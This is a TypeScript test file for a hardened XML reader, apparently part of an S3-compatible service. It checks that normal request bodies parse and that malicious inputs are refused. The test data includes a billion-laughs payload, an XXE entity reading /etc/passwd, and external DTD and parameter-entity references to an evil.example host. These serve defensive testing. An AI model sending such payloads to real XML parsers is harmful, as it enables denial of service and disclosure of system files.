/**
 * The safe XML reader: well-formed bodies read into a tree (with or without S3's
 * namespace, with prefixes, CDATA, comments and references), and every trick refused as
 * MalformedXML — DOCTYPE in all its forms (billion laughs, external entities), unknown
 * entities, processing instructions, forbidden characters, oversize and overdeep input.
 */
import { describe, expect, it } from "vitest";
import { S3Error } from "../../../shared/s3/s3-errors";
import {
  childNamed,
  MAX_XML_DEPTH,
  MAX_XML_REQUEST_BYTES,
  readXml,
} from "../../../shared/s3/xml-reader";

/** The MalformedXML message `text` is refused with (fails the test if it is read). */
function refusal(text: string): string {
  try {
    readXml(text);
  } catch (error) {
    expect(error).toBeInstanceOf(S3Error);
    expect((error as S3Error).code).toBe("MalformedXML");
    expect((error as S3Error).status).toBe(400);
    return (error as S3Error).message;
  }
  throw new Error(`read without complaint: ${text.slice(0, 80)}`);
}

function nested(depth: number): string {
  return `${"<a>".repeat(depth)}x${"</a>".repeat(depth)}`;
}

describe("readXml reads", () => {
  it("elements, their text and their children, with the declaration and a BOM", () => {
    const root = readXml(
      '\ufeff<?xml version="1.0" encoding="UTF-8"?>\n<R>\n  <A>one</A>\n  <B><C>two</C></B>\n</R>\n',
    );
    expect(root.name).toBe("R");
    expect(root.children.map((c) => c.name)).toEqual(["A", "B"]);
    expect(childNamed(root, "A")?.text).toBe("one");
    expect(childNamed(childNamed(root, "B") ?? root, "C")?.text).toBe("two");
    expect(childNamed(root, "Z")).toBeUndefined();
    expect(root.text.trim()).toBe("");
  });

  it("the same tree with S3's namespace, without it, or with a prefix", () => {
    const bare = readXml("<Delete><Object><Key>k</Key></Object></Delete>");
    const ns = readXml(
      '<Delete xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><Object><Key>k</Key></Object></Delete>',
    );
    const prefixed = readXml(
      '<s3:Delete xmlns:s3="http://s3.amazonaws.com/doc/2006-03-01/"><s3:Object><s3:Key>k</s3:Key></s3:Object></s3:Delete>',
    );
    expect(ns).toEqual(bare);
    expect(prefixed).toEqual(bare);
  });

  it("the five predefined entities and numeric references, decimal and hex", () => {
    expect(readXml("<K>&amp;&lt;&gt;&quot;&apos;&#65;&#x42;&#x1F600;&#13;</K>").text).toBe(
      "&<>\"'AB😀\r",
    );
  });

  it("CDATA as text, untouched; comments as nothing", () => {
    expect(readXml("<K>a<![CDATA[<b>&amp;]]>c<!-- <d> --></K>").text).toBe("a<b>&amp;c");
  });

  it("line ends normalized to LF, as XML says; a CR survives only as a reference", () => {
    expect(readXml("<K>a\r\nb\rc\nd&#13;&#10;</K>").text).toBe("a\nb\nc\nd\r\n");
    expect(readXml("<K><![CDATA[a\r\nb]]></K>").text).toBe("a\nb");
  });

  it("attributes (dropped), self-closing elements and spaces inside tags", () => {
    const root = readXml(`<R a="1" b='&amp;'  ><E/><F x="y" /></R >`);
    expect(root.children).toEqual([
      { name: "E", children: [], text: "" },
      { name: "F", children: [], text: "" },
    ]);
  });

  it(`${MAX_XML_DEPTH} levels of nesting`, () => {
    expect(readXml(nested(MAX_XML_DEPTH)).name).toBe("a");
  });

  it(`a document of exactly ${MAX_XML_REQUEST_BYTES} characters`, () => {
    const text = `<K>${"x".repeat(MAX_XML_REQUEST_BYTES - 7)}</K>`;
    expect(text.length).toBe(MAX_XML_REQUEST_BYTES);
    expect(readXml(text).text.length).toBe(MAX_XML_REQUEST_BYTES - 7);
  });
});

describe("readXml refuses", () => {
  it("a billion laughs (internal entities in a DOCTYPE)", () => {
    const laughs = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
]>
<Delete><Object><Key>&lol2;</Key></Object></Delete>`;
    expect(refusal(laughs)).toMatch(/DOCTYPE/);
  });

  it("an external entity (XXE), a system DOCTYPE and a parameter entity", () => {
    expect(
      refusal(
        '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Delete><Object><Key>&xxe;</Key></Object></Delete>',
      ),
    ).toMatch(/DOCTYPE/);
    expect(refusal('<!DOCTYPE Delete SYSTEM "http://evil.example/d.dtd"><Delete/>')).toMatch(
      /DOCTYPE/,
    );
    expect(
      refusal('<!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><d/>'),
    ).toMatch(/DOCTYPE/);
  });

  it("a DOCTYPE or declaration after the prolog, inside an element", () => {
    refusal("<R><!DOCTYPE x></R>");
    refusal('<R><!ENTITY x "y"></R>');
  });

  it("an entity that is not one of the predefined five, even undeclared", () => {
    expect(refusal("<K>&lol;</K>")).toMatch(/predefined/);
    expect(refusal("<K>&nbsp;</K>")).toMatch(/predefined/);
    expect(refusal('<K a="&ext;"/>')).toMatch(/predefined/);
  });

  it("a bare ampersand", () => {
    refusal("<K>a & b</K>");
    refusal("<K>&amp</K>");
  });

  it("references to characters XML forbids", () => {
    for (const ref of [
      "&#0;",
      "&#1;",
      "&#x1F;",
      "&#xD800;",
      "&#xFFFE;",
      "&#x110000;",
      "&#99999999;",
    ]) {
      refusal(`<K>${ref}</K>`);
    }
  });

  it("raw characters XML forbids, in text, CDATA or attributes", () => {
    refusal("<K>a\u0001b</K>");
    refusal("<K><![CDATA[\u0000]]></K>");
    refusal('<K a="\u001f"/>');
    refusal("<K>\ud800</K>");
  });

  it("processing instructions, and one posing as the declaration", () => {
    expect(refusal('<?xml-stylesheet href="x"?><R/>')).toMatch(/processing/);
    expect(refusal("<R><?php echo 1; ?></R>")).toMatch(/processing/);
    refusal("<R/><?pi?>");
  });

  it("a declaration anywhere but at the start", () => {
    refusal(' <?xml version="1.0"?><R/>');
  });

  it(`more than ${MAX_XML_REQUEST_BYTES} characters, before reading any`, () => {
    const text = `<K>${"x".repeat(MAX_XML_REQUEST_BYTES - 6)}</K>`;
    expect(refusal(text)).toMatch(/too large/);
  });

  it(`more than ${MAX_XML_DEPTH} levels of nesting`, () => {
    expect(refusal(nested(MAX_XML_DEPTH + 1))).toMatch(/deep/);
    expect(refusal("<a>".repeat(100_000))).toMatch(/deep/);
  });

  it("ill-formed structure", () => {
    for (const text of [
      "",
      "   ",
      "text",
      "<R>",
      "<R></S>",
      "<R><A></R></A>",
      "<R/><R/>",
      "<R/>trailing",
      "<R a=1/>",
      '<R a="1"b="2"/>',
      '<R a="1/>',
      "<R><![CDATA[x</R>",
      "<R><!-- x</R>",
      "<R>]]></R>",
      '<R a="<"/>',
      "<1R/>",
      "<R",
      '<?xml version="1.0"',
    ]) {
      refusal(text);
    }
  });
});

describe("S3's documented request bodies", () => {
  it("CompleteMultipartUpload (S3 API reference, CompleteMultipartUpload, sample request)", () => {
    const root = readXml(`<CompleteMultipartUpload>
  <Part>
    <PartNumber>1</PartNumber>
    <ETag>"a54357aff0632cce46d942af68356b38"</ETag>
  </Part>
  <Part>
    <PartNumber>2</PartNumber>
    <ETag>"0c78aef83f66abc1fa1e8477f296d394"</ETag>
  </Part>
  <Part>
    <PartNumber>3</PartNumber>
    <ETag>"acbd18db4cc2f85cedef654fccc4a4d8"</ETag>
  </Part>
</CompleteMultipartUpload>`);
    expect(root.children.map((p) => childNamed(p, "ETag")?.text)).toEqual([
      '"a54357aff0632cce46d942af68356b38"',
      '"0c78aef83f66abc1fa1e8477f296d394"',
      '"acbd18db4cc2f85cedef654fccc4a4d8"',
    ]);
  });

  it("Delete (S3 API reference, DeleteObjects, sample request)", () => {
    const root = readXml(`<Delete>
  <Object>
    <Key>sample1.txt</Key>
  </Object>
  <Object>
    <Key>sample2.txt</Key>
  </Object>
</Delete>`);
    expect(root.children.map((o) => childNamed(o, "Key")?.text)).toEqual([
      "sample1.txt",
      "sample2.txt",
    ]);
  });
});
